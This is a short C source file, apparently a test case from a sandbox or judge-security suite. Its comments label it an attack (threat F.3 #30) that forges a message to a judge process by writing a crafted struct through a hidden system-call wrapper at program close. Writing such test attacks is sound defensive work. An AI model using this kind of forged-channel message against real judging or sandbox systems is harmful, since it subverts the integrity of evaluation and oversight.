// Attack: forges a question, so that scenario and judge are out of step
// Threat: F.3 #30
// Gets: below
// Machine: x86_64
// Rest: rest.c
#include <stdint.h>
#define HIDDEN
static long hidden(int number, long a, long b, long c);
static void ask_too(void)
{
    struct {
        uint16_t type, what;
        uint32_t who;
        int64_t a, b, t;
    } ask = {.type = 4};
    hidden(1, 4, (long)&ask, sizeof(ask));
}
#define AT_CLOSE ask_too()
